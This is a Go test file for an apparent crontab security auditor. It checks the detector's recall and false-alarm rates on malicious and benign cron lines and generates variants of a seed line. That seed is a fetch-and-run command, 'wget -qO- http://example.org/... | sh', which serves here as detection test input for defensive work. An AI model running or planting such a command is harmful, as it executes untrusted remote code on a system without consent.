package main

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/postern-ssh/postern/audit/cron"
)

// lines reads our own lines, or the corpora that are kept outside the repository.
func lines(t *testing.T, files ...string) []Line {
	t.Helper()
	var out []Line
	for _, f := range files {
		data, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		more, err := Read(data)
		if err != nil {
			t.Fatalf("%s: %v", f, err)
		}
		out = append(out, more...)
	}
	return out
}

func TestFigures(t *testing.T) {
	for _, c := range []struct {
		name   string
		shared bool
		files  []string
	}{
		{"own lines", false, []string{"../testdata/lines.jsonl", "../testdata/lines-2.jsonl", "../testdata/lines-3.jsonl", "../testdata/lines-4.jsonl", "../testdata/lines-5.jsonl", "../testdata/lines-6.jsonl", "../testdata/lines-7.jsonl", "../testdata/lines-8.jsonl", "../testdata/lines-9.jsonl"}},
		{"corpora", true, []string{"corpus/cron-malicious.jsonl", "corpus/cron-benign.jsonl"}},
	} {
		t.Run(c.name, func(t *testing.T) {
			files := c.files
			if c.shared {
				dir := os.Getenv("POSTERN_SHARED")
				if dir == "" && os.Getenv("CI") == "true" {
					t.Fatal("POSTERN_SHARED is not set: the corpora are needed here")
				} else if dir == "" {
					t.Skip("POSTERN_SHARED is not set: the corpora are not at hand")
				}
				files = nil
				for _, f := range c.files {
					files = append(files, filepath.Join(dir, f))
				}
			}
			var out bytes.Buffer
			alone, planted, varied := Measure(&out, lines(t, files...), 20, 40, 2011)
			t.Log(out.String())
			for _, f := range []struct {
				name           string
				of             Figures
				recall, alarms float64
			}{{"line alone", alone, 0.9, 0.01}, {"with a host", planted, 0.98, 0.01}, {"variants", varied, 0.9, 0.01}} {
				if n := f.of["malicious"]; n.All == 0 || n.Share() < f.recall {
					t.Errorf("%s: %d of %d planted lines at medium or above, want %.0f %%", f.name, n.Heavy, n.All, 100*f.recall)
				}
				if n := f.of["benign"]; n.All == 0 || n.Share() > f.alarms {
					t.Errorf("%s: %d of %d honest lines at medium or above, want at most %.0f %%", f.name, n.Heavy, n.All, 100*f.alarms)
				}
			}
		})
	}
}

// A variant is a job of its own whose command the shell can read, as the line it
// comes from is.
func TestVariantsAreJobs(t *testing.T) {
	seen := map[string]bool{}
	all := lines(t, "../testdata/lines.jsonl")
	var out bytes.Buffer
	_, _, varied := Measure(&out, all, 3, 0, 7)
	n := 0
	for _, c := range varied {
		n += c.All
	}
	if n < 2*len(all) {
		t.Errorf("%d variants of %d lines", n, len(all))
	}
	r := newRand(7)
	for range 200 {
		_, v := variant(r, "wget -qO- http://example.org/a/bcdef/ghi | sh > /var/log/jklm")
		seen[v] = true
		j := cron.ParseTable([]byte("@daily "+v+"\n"), cron.User, cron.Debian, cron.Options{User: "u"}).Jobs()
		if len(j) != 1 {
			t.Fatalf("%q is no job", v)
		}
		if a := j[0].Resolve("/root", cron.Debian); a.Rough || !strings.Contains(v, "sh") {
			t.Errorf("%q: %s", v, a.Reason)
		}
	}
	if len(seen) < 150 {
		t.Errorf("%d different variants of 200", len(seen))
	}
}
